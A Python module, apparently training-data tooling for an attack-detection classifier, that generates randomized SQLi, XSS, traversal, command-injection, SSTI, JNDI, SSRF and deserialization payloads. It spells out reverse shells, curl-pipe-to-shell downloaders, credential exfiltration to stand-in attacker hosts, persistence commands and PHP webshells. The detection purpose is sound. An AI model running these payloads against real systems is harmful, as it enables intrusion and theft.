"""Attacks, from a grammar: injection payloads, where they are put, and scanner probes.

A *production* is one way of writing an attack (a UNION-based SQL injection, an
``<img onerror>`` XSS, an overlong-UTF-8 traversal, a JNDI lookup with nested
lookups…). Productions are the unit of hold-out: the evaluation split attacks with
productions training never saw, inside every kind. Each production draws its own
identifiers, numbers, spacing and case, so no two payloads are alike. Kinds map to the
model's ``attack_kind`` options: sqli, xss, traversal, cmdi, probe and other
(template injection, LDAP, XXE, JNDI, NoSQL, SSRF, CRLF).
"""

from __future__ import annotations

import functools
import random
from collections.abc import Callable
from dataclasses import dataclass

from models.data.sources import MODULE_SPLITS, UNSEEN_RELEASES, Split, assign, built_before, unseen_module

ATTACK_KINDS = ("sqli", "xss", "traversal", "cmdi", "probe", "other")

Gen = Callable[[random.Random], str]


@dataclass(frozen=True, slots=True)
class Production:
    """One way of writing an attack of ``kind``; ``where`` lists the placements it suits."""

    id: str
    kind: str
    make: Gen
    where: tuple[str, ...] = ("query", "path", "form", "json", "header")


def _mixcase(rng: random.Random, word: str) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in word)


def _kw(rng: random.Random, word: str) -> str:
    """An SQL keyword as tools write it: upper, lower or mixed case."""
    r = rng.random()
    return word.upper() if r < 0.5 else word.lower() if r < 0.8 else _mixcase(rng, word)


def _sp(rng: random.Random) -> str:
    """Whitespace between SQL tokens, including the usual filter evasions."""
    return rng.choice((" ", " ", " ", "/**/", "\t", "+", "%20", "\n"))


def _q(rng: random.Random) -> str:
    return rng.choice(("'", "'", '"', "')", "'))", ""))


def _cmt(rng: random.Random) -> str:
    return rng.choice(("--", "-- -", "--+", "#", "/*", ";--", "%23"))


def _n(rng: random.Random) -> str:
    return str(rng.randint(1, 9999))


def _cols(rng: random.Random) -> str:
    k = rng.randint(1, 8)
    items = [rng.choice(("NULL", "null", _n(rng), "version()", "@@version", "user()", "database()", "0x7e", "'a'",
                         "concat(username,0x3a,password)", "table_name", "group_concat(column_name)")) for _ in range(k)]
    return ",".join(items)


def _tbl(rng: random.Random) -> str:
    return rng.choice(("users", "admin", "accounts", "information_schema.tables", "information_schema.columns", "mysql.user",
                       "pg_user", "sysobjects", "members", "customers", "wp_users"))


def _host(rng: random.Random) -> str:
    sub = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rng.randint(6, 20)))
    return rng.choice((f"{sub}.oast.fun", f"{sub}.interact.sh", f"{sub}.burpcollaborator.net", f"{sub}.dnslog.cn",
                       f"{rng.randint(11, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
                       f"{sub}.attacker.tld", f"evil-{sub[:6]}.xyz"))


def _jsfn(rng: random.Random) -> str:
    return rng.choice(("alert(1)", "alert(document.domain)", "alert(document.cookie)", "prompt(1)", "confirm`1`",
                       f"fetch('//{_host(rng)}/?c='+document.cookie)", "eval(atob('YWxlcnQoMSk='))", "print()",
                       f"location='//{_host(rng)}'", "alert(String.fromCharCode(88,83,83))"))


def _file(rng: random.Random) -> str:
    return rng.choice(("etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "windows/win.ini", "boot.ini",
                       "etc/passwd%00", "WEB-INF/web.xml", ".env", "var/log/apache2/access.log", "root/.ssh/id_rsa",
                       "etc/nginx/nginx.conf", "proc/self/cmdline", "windows/system32/drivers/etc/hosts"))


def _unix_cmd(rng: random.Random) -> str:
    return rng.choice(("id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", f"curl http://{_host(rng)}/x.sh|sh",
                       f"wget http://{_host(rng)}/bot -O /tmp/b;chmod +x /tmp/b;/tmp/b", f"ping -c 3 {_host(rng)}",
                       f"nslookup {_host(rng)}", "sleep 10", f"nc -e /bin/sh {_host(rng)} 4444",
                       f"bash -i >& /dev/tcp/{_host(rng)}/443 0>&1", "echo cHduZWQ= | base64 -d", "cat${IFS}/etc/passwd"))


# ---------------------------------------------------------------------------- productions

SQLI = (
    Production("sqli.tautology", "sqli", lambda r: f"{r.choice(('', _n(r), 'admin'))}{_q(r)}{_sp(r)}{_kw(r, 'or')}{_sp(r)}{r.choice(('1=1', chr(39) + '1' + chr(39) + '=' + chr(39) + '1', '2>1', 'true', 'x=x', '1'))}{_sp(r)}{_cmt(r)}"),
    Production("sqli.tautology_quoted", "sqli", lambda r: f"{r.choice(('a', 'x', _n(r)))}' {_kw(r, 'or')} '{r.choice('abcxyz')}'='{r.choice('abcxyz')}"),
    Production("sqli.admin_comment", "sqli", lambda r: f"{r.choice(('admin', 'root', 'administrator', 'test'))}'{_sp(r)}{_cmt(r)}"),
    Production("sqli.union", "sqli", lambda r: f"{r.choice(('-' + _n(r), _n(r), ''))}{_q(r)}{_sp(r)}{_kw(r, 'union')}{_sp(r)}{r.choice(('', _kw(r, 'all') + _sp(r)))}{_kw(r, 'select')}{_sp(r)}{_cols(r)}{r.choice(('', _sp(r) + _kw(r, 'from') + _sp(r) + _tbl(r)))}{_sp(r)}{_cmt(r)}"),
    Production("sqli.union_null_probe", "sqli", lambda r: f"{_n(r)}{_q(r)} {_kw(r, 'union')} {_kw(r, 'select')} {','.join(['NULL'] * r.randint(1, 9))}{_cmt(r)}"),
    Production("sqli.stacked", "sqli", lambda r: f"{_n(r)}{_q(r)};{_sp(r)}{r.choice((_kw(r, 'drop') + ' ' + _kw(r, 'table') + ' ' + _tbl(r), _kw(r, 'exec') + ' xp_cmdshell(' + chr(39) + 'dir' + chr(39) + ')', _kw(r, 'insert') + ' ' + _kw(r, 'into') + ' ' + _tbl(r) + ' ' + _kw(r, 'values') + '(1,2)', _kw(r, 'update') + ' ' + _tbl(r) + ' ' + _kw(r, 'set') + ' role=' + chr(39) + 'admin' + chr(39), 'shutdown'))}{_cmt(r)}"),
    Production("sqli.time_mysql", "sqli", lambda r: f"{_n(r)}{_q(r)}{_sp(r)}{_kw(r, r.choice(('and', 'or')))}{_sp(r)}{r.choice(('sleep(' + str(r.randint(2, 15)) + ')', 'SLEEP(' + str(r.randint(2, 15)) + ')', 'benchmark(' + str(r.randint(10**6, 10**7)) + ',md5(1))', '(select*from(select(sleep(' + str(r.randint(2, 9)) + ')))a)'))}{r.choice(('', _cmt(r)))}"),
    Production("sqli.time_other", "sqli", lambda r: r.choice((f"{_n(r)}'; {_kw(r, 'waitfor')} {_kw(r, 'delay')} '0:0:{r.randint(2, 9)}'--", f"{_n(r)}' {_kw(r, 'and')} 1=(select 1 from pg_sleep({r.randint(2, 9)}))--", f"{_n(r)}) {_kw(r, 'or')} pg_sleep({r.randint(2, 9)})--", f"1' AND 1337=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),{r.randint(2, 9)})--"))),
    Production("sqli.error", "sqli", lambda r: f"{_n(r)}{_q(r)}{_sp(r)}{_kw(r, 'and')}{_sp(r)}{r.choice(('extractvalue(1,concat(0x7e,(select version())))', 'updatexml(1,concat(0x7e,user()),1)', '1=convert(int,@@version)', 'exp(~(select*from(select user())x))', 'geometrycollection((select*from(select*from(select user())a)b))', '1=cast((select current_user) as int)'))}{_cmt(r)}"),
    Production("sqli.blind_boolean", "sqli", lambda r: f"{_n(r)}{_q(r)}{_sp(r)}{_kw(r, 'and')}{_sp(r)}{r.choice(('1=1', '1=2', 'ascii(substring((select password from users limit 1),1,1))>' + str(r.randint(40, 120)), 'length(database())=' + str(r.randint(1, 12)), '(select count(*) from ' + _tbl(r) + ')>0', 'substr(@@version,1,1)=' + chr(39) + '5' + chr(39)))}{_cmt(r)}"),
    Production("sqli.order_probe", "sqli", lambda r: f"{_n(r)}{_q(r)}{_sp(r)}{_kw(r, r.choice(('order', 'group')))}{_sp(r)}{_kw(r, 'by')}{_sp(r)}{r.randint(1, 30)}{_cmt(r)}"),
    Production("sqli.hex_inline", "sqli", lambda r: f"{_n(r)}/*!50000{_kw(r, 'union')}*//*!50000{_kw(r, 'select')}*/{_cols(r)}{_cmt(r)}"),
    Production("sqli.mssql_exec", "sqli", lambda r: f"{_n(r)}'{_sp(r)};{_sp(r)}{_kw(r, 'exec')}{_sp(r)}{r.choice(('master..xp_cmdshell', 'xp_cmdshell', 'sp_configure'))}{_sp(r)}'{r.choice(('ping ' + _host(r), 'whoami', 'show advanced options'))}'{_cmt(r)}"),
    Production("sqli.like_wildcard", "sqli", lambda r: f"{r.choice(('a', '%', _n(r)))}'{_sp(r)}{_kw(r, 'or')}{_sp(r)}{r.choice(('username', 'name', '1'))}{_sp(r)}{_kw(r, 'like')}{_sp(r)}'%{_cmt(r)}"),
    Production("sqli.outofband", "sqli", lambda r: r.choice((f"{_n(r)}';declare @q varchar(99);set @q='\\\\{_host(r)}\\a'; exec master.dbo.xp_dirtree @q;--", f"{_n(r)}' {_kw(r, 'union')} {_kw(r, 'select')} load_file(concat('\\\\\\\\',version(),'.{_host(r)}\\\\a'))--", f"{_n(r)}'||(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://{_host(r)}/\">%x;]>'),'/l') from dual)||'"))),
)

XSS = (
    Production("xss.script", "xss", lambda r: f"<{_mixcase(r, 'script') if r.random() < 0.3 else 'script'}>{_jsfn(r)}</script>"),
    Production("xss.script_src", "xss", lambda r: f"<script src={r.choice(('', chr(34)))}//{_host(r)}/{r.choice(('x.js', 'a', 'hook.js'))}{r.choice(('', chr(34)))}></script>"),
    Production("xss.img_onerror", "xss", lambda r: f"<img src={r.choice(('x', '1', '#', chr(34) + chr(34)))} {r.choice(('onerror', 'OnError', 'onerror '))}={_jsfn(r)}>"),
    Production("xss.svg_onload", "xss", lambda r: f"<svg{r.choice(('/', ' ', chr(10)))}onload={_jsfn(r)}>"),
    Production("xss.event_tags", "xss", lambda r: r.choice((f"<body onload={_jsfn(r)}>", f"<details open ontoggle={_jsfn(r)}>", f"<input autofocus onfocus={_jsfn(r)}>", f"<video><source onerror={_jsfn(r)}>", f"<marquee onstart={_jsfn(r)}>", f"<iframe onload={_jsfn(r)}>"))),
    Production("xss.js_uri", "xss", lambda r: f"{r.choice(('javascript', 'JaVaScRiPt', 'java' + chr(9) + 'script', 'javascript' + chr(58) + '//%0a'))}:{_jsfn(r)}"),
    Production("xss.attr_break", "xss", lambda r: f"{r.choice((chr(34) + '>', chr(39) + '>', chr(34) + ' ', chr(39) + ' '))}{r.choice(('<script>' + _jsfn(r) + '</script>', 'autofocus onfocus=' + _jsfn(r) + ' x=' + chr(34), 'onmouseover=' + _jsfn(r) + '//', '<svg onload=' + _jsfn(r) + '>'))}"),
    Production("xss.iframe", "xss", lambda r: f"<iframe src={r.choice(('javascript:' + _jsfn(r), chr(34) + '//' + _host(r) + chr(34), 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='))}></iframe>"),
    Production("xss.angular", "xss", lambda r: r.choice(("{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}"))),
    Production("xss.polyglot", "xss", lambda r: "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
    Production("xss.entity_encoded", "xss", lambda r: r.choice(("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<svg><script>&#x61;lert(1)</script>", f"<scr<script>ipt>{_jsfn(r)}</scr</script>ipt>"))),
    Production("xss.markdown_link", "xss", lambda r: r.choice((f"[click](javascript:{_jsfn(r)})", f"![x](x\" onerror=\"{_jsfn(r)})", f"<a href=\"javascript:{_jsfn(r)}\">link</a>", "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"))),
    Production("xss.template_break", "xss", lambda r: r.choice((f"</script><script>{_jsfn(r)}</script>", f"</title><script>{_jsfn(r)}</script>", f"</textarea><img src=x onerror={_jsfn(r)}>", f"-->{r.choice(('<svg onload=', '<img src=x onerror='))}{_jsfn(r)}>", f"';{_jsfn(r)};//"))),
    Production("xss.style_expr", "xss", lambda r: r.choice(("<div style=\"background:url(javascript:alert(1))\">", "<style>@import'//" + _host(r) + "/x.css';</style>", "<link rel=stylesheet href=//" + _host(r) + "/x.css>", "<object data=javascript:alert(1)>", "<embed src=//" + _host(r) + "/x.swf>"))),
)

TRAVERSAL = (
    Production("trav.plain", "traversal", lambda r: f"{'../' * r.randint(3, 9)}{_file(r)}"),
    Production("trav.encoded", "traversal", lambda r: f"{'..%2f' * r.randint(3, 9)}{_file(r).replace('/', '%2f')}", ("query", "path", "form")),
    Production("trav.dot_encoded", "traversal", lambda r: f"{'%2e%2e%2f' * r.randint(3, 8)}{_file(r)}", ("query", "path", "form")),
    Production("trav.double", "traversal", lambda r: f"{'..%252f' * r.randint(3, 8)}{_file(r)}", ("query", "path")),
    Production("trav.overlong", "traversal", lambda r: f"{r.choice(('..%c0%af', '..%c1%9c', '%c0%ae%c0%ae/', '..%u2216')) * r.randint(3, 8)}{_file(r)}", ("query", "path")),
    Production("trav.windows", "traversal", lambda r: f"{'..' + chr(92)}{('..' + chr(92)) * r.randint(2, 8)}{r.choice(('windows' + chr(92) + 'win.ini', 'boot.ini', 'windows' + chr(92) + 'system32' + chr(92) + 'config' + chr(92) + 'sam', 'inetpub' + chr(92) + 'wwwroot' + chr(92) + 'web.config'))}"),
    Production("trav.nested", "traversal", lambda r: f"{r.choice(('....//', '..././', '...//', '.../.../')) * r.randint(3, 7)}{_file(r)}"),
    Production("trav.absolute", "traversal", lambda r: r.choice((f"/{_file(r)}", f"file:///{_file(r)}", f"/var/www/../../{_file(r)}", f"php://filter/convert.base64-encode/resource={r.choice(('index.php', 'config.php', '../config.php'))}", f"/proc/self/fd/{r.randint(0, 20)}", f"C:{chr(92)}windows{chr(92)}win.ini"))),
    Production("trav.null_ext", "traversal", lambda r: f"{'../' * r.randint(3, 8)}{_file(r)}%00.{r.choice(('png', 'jpg', 'html', 'pdf'))}", ("query", "path")),
)

def _sep(rng: random.Random) -> str:
    """A command separator or substitution opener, shared by every command-injection production."""
    return rng.choice((";", "; ", "|", "||", "&&", "&", " && ", "%0a", "\n", "`", "$(", "%3B", "%7C", "%26%26"))


def _inject(rng: random.Random, command: str) -> str:
    prefix = rng.choice(("", "", "127.0.0.1", "x", "1", "test.txt", "8.8.8.8", "google.com"))
    sep = _sep(rng)
    if sep == "`":
        return f"{prefix}`{command}`"
    if sep == "$(":
        return f"{prefix}$({command})"
    if sep == "\n":
        sep = chr(10)
    return f"{prefix}{sep}{command}{rng.choice(('', '', ';', ' #', '%00'))}"


# Command injection, by what the injected command does; separators and substitution
# forms are shared (``_sep``), so a held-out production is a new command, not a new "|".
CMDI = (
    Production("cmdi.recon", "cmdi", lambda r: _inject(r, r.choice(("id", "whoami", "uname -a", "hostname", "ifconfig", "ip a", "ps aux", "env", "pwd", "ls -la", "ls /")))),
    Production("cmdi.read", "cmdi", lambda r: _inject(r, r.choice(("cat /etc/passwd", "cat /etc/shadow", "head -n 5 /etc/passwd", "cat ~/.ssh/id_rsa", "tail /var/log/auth.log", "more /etc/hosts", "cat${IFS}/etc/passwd", "less /proc/self/environ")))),
    Production("cmdi.download", "cmdi", lambda r: _inject(r, r.choice((f"curl http://{_host(r)}/x.sh|sh", f"wget http://{_host(r)}/bot -O /tmp/b;chmod +x /tmp/b;/tmp/b", f"curl -s {_host(r)}/i|bash", f"wget -qO- {_host(r)}/m.sh|sh", f"tftp -g -r x {_host(r)}", f"busybox wget http://{_host(r)}/mips")))),
    Production("cmdi.timing", "cmdi", lambda r: _inject(r, r.choice((f"sleep {r.randint(5, 30)}", f"ping -c {r.randint(3, 20)} 127.0.0.1", f"ping -n {r.randint(3, 20)} 127.0.0.1", f"timeout {r.randint(5, 20)}", f"sleep${{IFS}}{r.randint(5, 30)}")))),
    Production("cmdi.oob", "cmdi", lambda r: _inject(r, r.choice((f"nslookup {_host(r)}", f"dig {_host(r)}", f"ping -c 1 {_host(r)}", f"curl {_host(r)}/$(whoami)", f"host {_host(r)}")))),
    Production("cmdi.shell", "cmdi", lambda r: _inject(r, r.choice((f"nc -e /bin/sh {_host(r)} 4444", f"bash -i >& /dev/tcp/{_host(r)}/443 0>&1", f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {_host(r)} 1234 >/tmp/f", f"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{_host(r)}\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'", f"socat tcp:{_host(r)}:443 exec:sh")))),
    Production("cmdi.windows", "cmdi", lambda r: _inject(r, r.choice(("whoami /all", "ipconfig /all", "type C:\\windows\\win.ini", "net user", "dir C:\\", f"powershell -nop -w hidden -enc {''.join(r.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789') for _ in range(r.randint(20, 60)))}", f"certutil -urlcache -split -f http://{_host(r)}/x.exe x.exe", "cmd.exe /c ver")))),
    Production("cmdi.obfuscated", "cmdi", lambda r: r.choice((";cat${IFS}/etc/passwd", "|cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}", f";curl${{IFS}}{_host(r)}", ";w'h'o'am'i", ";/???/??t /???/p??s??", "|$(echo d2hvYW1p|base64 -d)", ";c\\at /e\\tc/pa\\sswd", "&&$'\\x69\\x64'"))),
    Production("cmdi.exfil", "cmdi", lambda r: _inject(r, r.choice((f"curl -d @/etc/passwd http://{_host(r)}/", f"wget --post-file=/etc/passwd http://{_host(r)}/", f"cat /etc/passwd|nc {_host(r)} 80", f"curl http://{_host(r)}/?d=$(cat /etc/hostname|base64)", f"curl -F f=@/root/.aws/credentials {_host(r)}", f"tar czf - /var/www|curl -T - {_host(r)}")))),
    Production("cmdi.persist", "cmdi", lambda r: _inject(r, r.choice(("echo ssh-rsa AAAAB3NzaC1yc2E >> ~/.ssh/authorized_keys", f"(crontab -l;echo '* * * * * curl {_host(r)}|sh')|crontab -", "useradd -o -u 0 -m svc", "chmod 4755 /bin/bash", "echo 'nohup /tmp/.x &' >> /etc/rc.local", "crontab -r")))),
    Production("cmdi.interpreter", "cmdi", lambda r: _inject(r, r.choice(("python -c 'import os;os.system(\"id\")'", "perl -e 'system(\"id\")'", "php -r 'system(\"id\");'", "ruby -e 'puts `id`'", "node -e 'require(\"child_process\").execSync(\"id\")'", "lua -e 'os.execute(\"id\")'", "awk 'BEGIN{system(\"id\")}'")))),
    Production("cmdi.powershell", "cmdi", lambda r: _inject(r, r.choice((f"powershell iwr http://{_host(r)}/a.ps1|iex", f"powershell -c (New-Object Net.WebClient).DownloadString('http://{_host(r)}/a')", f"bitsadmin /transfer j http://{_host(r)}/x.exe %TEMP%\\x.exe", f"mshta http://{_host(r)}/a.hta", f"regsvr32 /s /n /u /i:http://{_host(r)}/a.sct scrobj.dll", "powershell Get-Process")))),
    Production("cmdi.dns_exfil", "cmdi", lambda r: _inject(r, r.choice((f"nslookup $(whoami).{_host(r)}", f"dig +short $(hostname).{_host(r)}", f"ping -c1 `id -u`.{_host(r)}", f"host $(uname -n).{_host(r)}", f"curl $(whoami).{_host(r)}")))),
    Production("cmdi.shellshock", "cmdi", lambda r: f"() {{ :; }}; {r.choice(('echo; /bin/bash -c ' + chr(39) + _unix_cmd(r) + chr(39), '/bin/sleep ' + str(r.randint(5, 20)), 'echo vulnerable', '/bin/cat /etc/passwd'))}", ("header",)),
)

OTHER = (
    Production("ssti.jinja", "other", lambda r: r.choice(("{{7*7}}", "{{7*'7'}}", "{{config.items()}}", "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "{{request.application.__globals__.__builtins__.__import__('os').popen('" + _unix_cmd(r) + "').read()}}"))),
    Production("ssti.expression", "other", lambda r: r.choice(("${7*7}", "#{7*7}", "*{7*7}", "<%= 7*7 %>", "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{T(java.lang.System).getenv()}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "${{7*7}}", "@(1+2)", "{{= 7*7}}"))),
    Production("ldap.bypass", "other", lambda r: r.choice(("*)(uid=*))(|(uid=*", "admin)(&)", f"{r.choice(('admin', 'x', '*'))})(|(password=*))", "*))%00", f"{r.choice(('jdoe', 'admin'))})(|(&)")), ),
    Production("ldap.blind", "other", lambda r: r.choice((f"*)(cn={r.choice('abcdefgh')}*", f"{r.choice(('admin', 'jdoe'))})(userPassword={r.choice('abcdef')}*", "*)(objectClass=user)(cn=*", "admin*)((|userPassword=*)")), ),
    Production("ldap.enumerate", "other", lambda r: r.choice(("*)(|(objectClass=*)", "(|(mail=*)(cn=*))", f"{r.choice(('jdoe', '*'))})(userPassword=*)", "*()|&'", f"*)(memberOf=cn={r.choice(('admins', 'Domain Admins'))}*")), ),
    Production("xxe.entity", "other", lambda r: f"<?xml version=\"1.0\"?><!DOCTYPE {r.choice(('foo', 'root', 'data'))} [<!ENTITY {r.choice(('xxe', 'x', 'ent'))} SYSTEM \"{r.choice(('file:///' + _file(r), 'http://' + _host(r) + '/x', 'php://filter/read=convert.base64-encode/resource=/etc/passwd', 'expect://id'))}\">]><{r.choice(('foo', 'root', 'data'))}>&{r.choice(('xxe', 'x', 'ent'))};</{r.choice(('foo', 'root', 'data'))}>", ("xml",)),
    Production("xxe.xinclude", "other", lambda r: f"<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///{_file(r)}\"/></foo>", ("xml",)),
    Production("xxe.parameter", "other", lambda r: f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE r [<!ENTITY % {r.choice(('dtd', 'remote', 'p'))} SYSTEM \"http://{_host(r)}/evil.dtd\"> %{r.choice(('dtd', 'remote', 'p'))};]><r>1</r>", ("xml",)),
    Production("jndi.plain", "other", lambda r: f"${{jndi:{r.choice(('ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'nis', 'corba'))}://{_host(r)}{r.choice(('', ':1389', ':443'))}/{r.choice(('a', 'Exploit', 'o=tomcat', _n(r)))}}}"),
    Production("jndi.nested", "other", lambda r: r.choice((f"${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{_host(r)}/a}}", f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-r}}${{::-m}}${{::-i}}://{_host(r)}/o}}", f"${{${{env:BARFOO:-j}}ndi${{env:BARFOO:-:}}${{env:BARFOO:-l}}dap${{env:BARFOO:-:}}//{_host(r)}/z}}", f"${{jndi:${{lower:l}}${{lower:d}}${{lower:a}}${{lower:p}}://{_host(r)}/c}}", f"${{j${{k8s:k5:-ND}}i:ldap://{_host(r)}/x}}"))),
    Production("nosql.json", "other", lambda r: r.choice(('{"$ne": null}', '{"$gt": ""}', '{"$where": "sleep(5000)"}', '{"$regex": ".*"}', '{"username": {"$ne": null}, "password": {"$ne": null}}'))),
    Production("nosql.param", "other", lambda r: r.choice(("[$ne]=1", "';return true;var x='", "[$regex]=.*", "[$gt]=", "';sleep(5000);'", "[$where]=1")), ("query", "form")),
    Production("ssrf.metadata", "other", lambda r: r.choice(("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/?recursive=true", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://100.100.100.200/latest/meta-data/", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"))),
    Production("ssrf.obfuscated_ip", "other", lambda r: r.choice(("http://2130706433/", "http://0177.0.0.1/admin", "http://127.1/", "http://[::]:80/", "http://0.0.0.0:8080/actuator", "http://localtest.me/", f"http://{r.randint(1, 254)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(0, 255)}.nip.io/", "http://169.254.169.254.nip.io/latest/"))),
    Production("ssrf.internal", "other", lambda r: r.choice(("http://127.0.0.1:2375/containers/json", "gopher://127.0.0.1:6379/_FLUSHALL", "http://0x7f000001/admin", "dict://127.0.0.1:11211/stats", "http://localhost:8500/v1/agent/self", "http://[::1]:6443/api/v1/secrets", "ftp://127.0.0.1:21/"))),
    Production("crlf.header", "other", lambda r: f"{r.choice(('', '/', 'x'))}%0d%0a{r.choice(('Set-Cookie:%20admin=1', 'Location:%20http://' + _host(r), 'X-Injected:%20true'))}", ("query", "path")),
    Production("crlf.split", "other", lambda r: f"{r.choice(('', '/', 'x'))}%0d%0a{r.choice(('%0d%0a<script>alert(1)</script>', 'Content-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK', '%0d%0a%3Chtml%3Ehacked%3C/html%3E'))}", ("query", "path")),
    Production("php.code", "other", lambda r: r.choice(("<?php system($_GET['c']); ?>", "<?=`$_GET[0]`?>", "${@phpinfo()}", "<?php eval(base64_decode($_POST['x'])); ?>", "<?php echo shell_exec($_REQUEST['cmd']); ?>"))),
    Production("php.remote_include", "other", lambda r: r.choice((f"http://{_host(r)}/shell.txt?", f"https://{_host(r)}/c99.txt%00", f"//{_host(r)}/r57.php", f"ftp://{_host(r)}/x.php"))),
    Production("php.wrapper", "other", lambda r: r.choice(("data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==", "expect://id", "php://input", "zip://uploads/avatar.jpg%23shell.php", "phar://uploads/x.jpg/test.txt"))),
    Production("deser.json", "other", lambda r: r.choice(('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://' + _host(r) + '/x","autoCommit":true}', '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}', '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://' + _host(r) + '/x.sql\'"}]'))),
    Production("deser.dotnet", "other", lambda r: r.choice(('{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}', "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0uV2luZG93cy5Gb3JtcywgVmVyc2lvbj00LjAuMC4w", '<ObjectDataProvider MethodName="Start" xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"><ObjectDataProvider.MethodParameters><s:String>cmd</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider>'))),
    Production("ssti.twig", "other", lambda r: r.choice(("{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}", "{{['id']|filter('system')}}", "{{['cat /etc/passwd']|map('system')|join}}", "{{app.request.server.all|join(',')}}", "{{dump(app)}}"))),
    Production("ssti.velocity", "other", lambda r: r.choice(("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))", "$class.inspect('java.lang.Runtime').type.getRuntime().exec('id')", "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end", "${{'{'}}request.getClass().getClassLoader()}"))),
    Production("ssti.smarty", "other", lambda r: r.choice(("{php}echo `id`;{/php}", "{system('id')}", "{$smarty.version}", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}", "{if system('id')}{/if}"))),
    Production("ssti.erb", "other", lambda r: r.choice(("<%= system('id') %>", "<%= `ls /` %>", "<%= File.open('/etc/passwd').read %>", "<%= IO.popen('id').readlines() %>", "<%= Dir.entries('/') %>"))),
    Production("ssti.handlebars", "other", lambda r: r.choice(("{{this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}", "{{#with \"s\" as |string|}}{{#with string.split as |conslist|}}{{/with}}{{/with}}", "{{lookup (lookup this 'constructor') 'constructor'}}", "<%- global.process.mainModule.require('child_process').execSync('id') %>"))),
    Production("ssrf.cloud", "other", lambda r: r.choice(("http://169.254.170.2/v2/credentials", "http://metadata/computeMetadata/v1/instance/service-accounts/default/token", "http://169.254.169.254/opc/v1/instance/", "http://169.254.169.254/metadata/v1.json", "http://100.100.100.200/latest/meta-data/ram/security-credentials/", "http://169.254.169.254/latest/user-data", "http://169.254.169.254/computeMetadata/v1beta1/"))),
    Production("ssrf.encoded_host", "other", lambda r: r.choice(("http://0x7f.0x0.0x0.0x1/", "http://017700000001/", "http://127.000.000.001/", "http://0/", "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://%31%32%37%2e%30%2e%30%2e%31/", "http://\u2460\u2461\u2466.0.0.1/", "http://0xa9fea9fe/latest/", "http://2852039166/latest/meta-data/", "http://[::ffff:7f00:1]:8080/"))),
    Production("ssrf.rebind", "other", lambda r: r.choice((f"http://7f000001.{r.choice(('c0a80001', 'a9fea9fe', '0a000001'))}.rbndr.us/", f"http://{r.randint(1, 254)}-{r.randint(0, 255)}-{r.randint(0, 255)}-{r.randint(0, 255)}.sslip.io/", "http://localhost.localdomain/admin", f"http://127.0.0.1.{_host(r)}/", "http://spoofed.burpcollaborator.net/", "http://customer1.app.localhost.my.company.127.0.0.1.nip.io/"))),
    Production("ssrf.redirect", "other", lambda r: r.choice((f"http://{_host(r)}/redirect?url=http://169.254.169.254/latest/meta-data/", f"https://{_host(r)}/r.php?to=http://127.0.0.1:8080/admin", f"http://{_host(r)}/302.php?target=gopher://127.0.0.1:6379/", f"https://{_host(r)}/go?u=file:///etc/passwd"))),
